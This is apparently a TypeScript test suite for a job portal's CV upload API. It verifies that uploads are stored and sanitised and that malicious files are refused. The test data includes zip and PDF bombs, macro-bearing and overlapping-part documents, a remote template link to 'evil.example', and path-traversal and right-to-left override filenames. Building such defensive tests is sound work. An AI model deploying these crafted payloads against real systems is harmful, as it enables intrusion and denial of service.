import { strToU8, zipSync } from 'fflate';
import sql from 'sql-template-tag';
import { applyTo, sendCv, smallPdf, uploadCv } from '../applicationFixtures';
import { encryptedPdf } from '../encryptedPdf';
import { asEmployer, asSeeker, openHost, type Person, type TestHost } from '../host';
import { addCategories, countRows, post } from '../jobFixtures';
import { pdfBomb } from '../pdfBomb';
import { docx, odt } from './documents';

let host: TestHost;
let seeker: Person;
let employer: Person;
beforeAll(async () => {
  host = await openHost();
  await addCategories(host);
  employer = await asEmployer(host);
});
beforeEach(async () => {
  seeker = await asSeeker(host);
});
afterAll(() => host.close());

const call = (method: 'GET' | 'PUT' | 'DELETE', url: string, payload?: object, who = seeker) =>
  host.app.inject({
    method,
    url: `/api${url}`,
    headers: who.headers,
    ...(payload && { payload }),
  });
const list = async () => (await call('GET', '/resumes')).json();

const kinds: [string, Buffer, string, string][] = [
  ['pdf', smallPdf(), 'application/pdf', 'pdf'],
  [
    'docx',
    docx(),
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'docx',
  ],
  ['odt', odt(), 'application/vnd.oasis.opendocument.text', 'odt'],
  ['rtf', Buffer.from('{\\rtf1\\ansi Ivo Kern\\par}'), 'application/rtf', 'rtf'],
  ['text', Buffer.from('Ivo Kern\nNurse – أهلا\n'), 'text/plain; charset=utf-8', 'txt'],
];

test.each(kinds)(
  'a CV as %s is stored, listed and comes back byte by byte',
  async (_name, file, type, kind) => {
    const answer = await sendCv(host, seeker, file, 'My résumé.whatever');
    expect(answer.statusCode).toBe(201);
    const resume = answer.json();
    expect(resume).toEqual({
      _id: expect.any(String),
      name: `My résumé.whatever.${kind}`,
      kind,
      size: file.length,
      isDefault: true,
      updatedAt: expect.any(String),
    });
    expect(await list()).toEqual([resume]);
    const back = await call('GET', `/resumes/${resume._id}/file`);
    expect(back.rawPayload.equals(file)).toBe(true);
    expect(back.headers).toMatchObject({
      'content-type': type,
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
      'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
      'content-disposition': `attachment; filename="My r_sum_.whatever.${kind}"; filename*=UTF-8''My%20r%C3%A9sum%C3%A9.whatever.${kind}`,
    });
  },
);

test('a text in UTF-16 is stored in UTF-8', async () => {
  const file = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Ivo Kern – CV', 'utf16le')]);
  const { _id } = (await sendCv(host, seeker, file, 'cv.txt')).json();
  expect((await call('GET', `/resumes/${_id}/file`)).body).toBe('Ivo Kern – CV');
});

/** Builds an archive whose directory points into another part for the document's text. */
function withHiddenPart(): Buffer {
  const name = 'word/document.xml';
  const hidden = Buffer.from(zipSync({ [name]: strToU8('<w:document/>') }, { level: 0 }));
  const file = Buffer.from(docx({ 'word/media/a.bin': hidden }, { level: 0 }));
  const entry = file.lastIndexOf(name) - 46;
  file.writeUInt32LE(file.indexOf(hidden), entry + 42);
  return file;
}
const bomb = docx({ 'word/media/zeros.bin': new Uint8Array(80 * 1024 * 1024) });
const refused: [string, Buffer, RegExp][] = [
  ['nothing', Buffer.alloc(0), /empty/],
  ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), /can’t read/],
  ['a program', Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), /can’t read/],
  ['a page of HTML with NUL', Buffer.from('<html>\0'), /can’t read/],
  ['an old Word file', Buffer.from('d0cf11e0a1b11ae1'.padEnd(1200, '0'), 'hex'), /old Word file/],
  ['Word with macros', docx({ 'word/vbaProject.bin': 'x' }), /macros/],
  [
    'a document whose type says macros',
    docx({
      '[Content_Types].xml':
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    /macros|can’t read/,
  ],
  ['ODT with macros', odt({ 'Basic/Standard/Module1.xml': 'x' }), /macros/],
  [
    'ODT with a password',
    odt({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    /password/,
  ],
  ['RTF with an object', Buffer.from('{\\rtf1{\\object\\objdata 0105}}'), /macros/],
  ['RTF with an object by a number', Buffer.from('{\\rtf1{\\object\\objdata1 05}}'), /macros/],
  [
    'Word with a template elsewhere',
    docx({
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    }),
    /macros/,
  ],
  ['Word with a part that another hides', withHiddenPart(), /can’t be opened/],
  ['a damaged PDF', Buffer.from('%PDF-1.4 nothing follows'), /can’t be opened/],
  ['a PDF that unpacks to far more than it is', pdfBomb(), /can’t be opened/],
  ['a bomb', bomb, /can’t be opened/],
  ['a zip of something', Buffer.from(zipSync({ 'a.txt': strToU8('a') })), /can’t read/],
];
test.each(refused)('%s is refused with a clear word', async (_name, file, words) => {
  const before = await countRows(host, 'files');
  const answer = await sendCv(host, seeker, file, 'cv.pdf');
  expect([answer.statusCode, answer.json().field]).toEqual([400, 'file']);
  expect(answer.json().message).toMatch(words);
  expect(await list()).toEqual([]);
  expect(await countRows(host, 'files')).toBe(before);
});

test('a PDF with a password is refused, one that only forbids printing is not', async () => {
  const locked = await sendCv(host, seeker, encryptedPdf('letmein'));
  expect([locked.statusCode, locked.json().field]).toEqual([400, 'file']);
  expect(locked.json().message).toMatch(/password/);
  const unprintable = encryptedPdf('');
  const taken = await sendCv(host, seeker, unprintable);
  expect([taken.statusCode, taken.json().kind]).toEqual([201, 'pdf']);
  const back = await call('GET', `/resumes/${taken.json()._id}/file`);
  expect(back.rawPayload.equals(unprintable)).toBe(true);
});

test('5 MB is taken, a byte more is not', async () => {
  const words = Buffer.alloc(5 * 1024 * 1024, 'Nurse. ');
  expect((await sendCv(host, seeker, words, 'cv.txt')).statusCode).toBe(201);
  const answer = await sendCv(host, seeker, Buffer.concat([words, Buffer.from('.')]), 'cv.txt');
  expect([answer.statusCode, answer.json().message]).toEqual([
    413,
    'The file is too large: at most 5 MB',
  ]);
});

test.each([
  ['../../etc/passwd', 'passwd.txt'],
  ['C:\\Users\\ivo\\cv.docx', 'cv.txt'],
  ['cv\u202Etxt.exe', 'cvtxt.exe.txt'],
  ['.htaccess', 'htaccess.txt'],
  ['a<b>c?.pdf', 'a_b_c_.txt'],
  ['n'.repeat(250), `${'n'.repeat(90)}.txt`],
  [' . ', 'cv.txt'],
])('the name %j becomes %j', async (given, name) => {
  const answer = await sendCv(host, seeker, Buffer.from('Ivo Kern'), given);
  expect(answer.json().name).toBe(name);
});

test('three at most, also when four come at once; one is the default', async () => {
  const answers = await Promise.all(
    [1, 2, 3, 4].map((each) => sendCv(host, seeker, smallPdf(String(each)))),
  );
  expect(answers.map(({ statusCode }) => String(statusCode)).toSorted()).toEqual([
    '201',
    '201',
    '201',
    '409',
  ]);
  const resumes = await list();
  expect(resumes.map(({ isDefault }: { isDefault: boolean }) => isDefault)).toEqual([
    true,
    false,
    false,
  ]);
});

test('rename, make default, replace, delete', async () => {
  const [first, second] = [await uploadCv(host, seeker), await uploadCv(host, seeker, 'two.pdf')];
  expect((await call('PUT', `/resumes/${second._id}`, { name: 'Nursing.txt' })).json().name).toBe(
    'Nursing.pdf',
  );
  await call('PUT', `/resumes/${second._id}`, { isDefault: true });
  expect(await list()).toMatchObject([
    { _id: second._id, isDefault: true },
    { _id: first._id, isDefault: false },
  ]);
  const files = await countRows(host, 'files');
  const replaced = await sendCv(host, seeker, Buffer.from('Ivo'), 'new.txt', {
    method: 'PUT',
    url: `/api/resumes/${second._id}/file`,
  });
  expect(replaced.json()).toMatchObject({ name: 'new.txt', kind: 'txt', isDefault: true });
  // nothing refers to the replaced file anymore
  expect(await countRows(host, 'files')).toBe(files);
  expect((await call('DELETE', `/resumes/${second._id}`)).statusCode).toBe(204);
  expect(await list()).toMatchObject([{ _id: first._id, isDefault: true }]);
  expect(await countRows(host, 'files')).toBe(files - 1);
  expect((await call('DELETE', `/resumes/${second._id}`)).statusCode).toBe(404);
});

test('what was sent stays as it was sent, and goes with a withdrawal', async () => {
  const { _id: jobId } = await post(host, employer);
  const { _id: resumeId } = await uploadCv(host, seeker, 'first.pdf');
  const { _id } = await applyTo(host, seeker, { jobId, resumeId });
  await sendCv(host, seeker, smallPdf('second'), 'second.pdf', {
    method: 'PUT',
    url: `/api/resumes/${resumeId}/file`,
  });
  const cv = () => call('GET', `/applications/${_id}/cv`, undefined, employer);
  expect((await cv()).rawPayload.equals(smallPdf('first.pdf'))).toBe(true);
  await call('DELETE', `/resumes/${resumeId}`);
  expect((await cv()).statusCode).toBe(200);
  const withdrawn = await host.app.inject({
    method: 'POST',
    url: `/api/applications/${_id}/withdrawal`,
    headers: seeker.headers,
  });
  expect(withdrawn.json()).toMatchObject({ state: 'withdrawn', mayApplyAgain: true });
  expect(withdrawn.json().cv).toBeUndefined();
  expect((await cv()).statusCode).toBe(404);
  const [row] = await host.db.query(
    sql`SELECT count(*) AS count FROM files f JOIN applications a ON a.id = ${_id} WHERE f.id = a.cv_id`,
  );
  expect(row).toEqual({ count: 0 });
});

test('who opened the CV is written down, once an hour for each', async () => {
  const { _id: jobId } = await post(host, employer);
  const { _id: resumeId } = await uploadCv(host, seeker);
  const { _id } = await applyTo(host, seeker, { jobId, resumeId });
  for (const who of [employer, employer, seeker])
    expect((await call('GET', `/applications/${_id}/cv`, undefined, who)).statusCode).toBe(200);
  const { history } = (await call('GET', `/applications/${_id}`)).json();
  expect(history).toMatchObject([{ kind: 'sent' }, { kind: 'cvOpened', name: 'Mara Lind' }]);
});
